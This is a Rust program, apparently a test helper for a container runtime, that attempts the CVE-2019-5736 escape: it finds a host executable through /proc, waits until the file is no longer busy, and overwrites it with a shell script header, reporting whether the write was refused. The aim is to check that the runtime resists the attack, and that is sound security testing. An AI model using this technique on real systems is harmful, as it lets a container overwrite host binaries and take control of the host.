//! The program that tries to overwrite a container runtime from inside (CVE-2019-5736).

use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::path::Path;
use std::process::ExitCode;

use boxr_sys::mount::{Change, attr, set_attributes};
use rustix::fs::{CWD, Mode, OFlags, Stat, fstat, openat, stat};
use rustix::io::Errno;

/// Says `ready`, waits for a process with a program that is none of the container's, says `caught` and
/// keeps that program's file; when it can be tried, says `refused: REASON`, or `wrote`.
///
/// The words after the role are the paths of the programs that the container has.
pub fn main(words: impl Iterator<Item = String>) -> ExitCode {
    let known: Vec<_> = std::iter::once("/proc/self/exe".to_owned())
        .chain(words)
        .filter_map(|path| stat(path).ok())
        .map(|found| identity(&found))
        .collect();
    println!("ready");
    let program = std::iter::repeat_with(|| foreign_program(&known)).flatten().next();
    let Some(program) = program else { return ExitCode::FAILURE };
    println!("caught");
    match overwrite(&program) {
        Ok(()) => println!("wrote"),
        Err(errno) => println!("refused: {errno:?}"),
    }
    // The test asks the log, and ends the box.
    loop {
        std::thread::park();
    }
}

fn identity(found: &Stat) -> (u64, u64) {
    (found.st_dev, found.st_ino)
}

/// A program of some process that the container does not have, open without a right.
fn foreign_program(known: &[(u64, u64)]) -> Option<OwnedFd> {
    let entries = std::fs::read_dir("/proc").ok()?;
    let processes = entries.flatten().map(|entry| entry.path()).filter(|path| is_process(path));
    processes
        .filter_map(|process| {
            openat(CWD, process.join("exe"), OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).ok()
        })
        .find(|file| fstat(file).is_ok_and(|found| !known.contains(&identity(&found))))
}

fn is_process(path: &Path) -> bool {
    let name = path.file_name().unwrap_or_default().as_encoded_bytes();
    name.iter().all(u8::is_ascii_digit)
}

/// Tries all that root can, as soon as nobody runs the program.
fn overwrite(program: &OwnedFd) -> Result<(), Errno> {
    // Refused as well, but the write below is what counts.
    let writable = Change { clear: attr::RDONLY, ..Change::default() };
    set_attributes(program.as_fd(), c"", false, &writable).unwrap_or_default();
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let file = loop {
        match openat(CWD, &path, OFlags::WRONLY | OFlags::CLOEXEC, Mode::empty()) {
            Err(Errno::TXTBSY) => std::thread::yield_now(),
            other => break other?,
        }
    };
    rustix::io::write(&file, b"#!/bin/sh\n").map(|_| ())
}
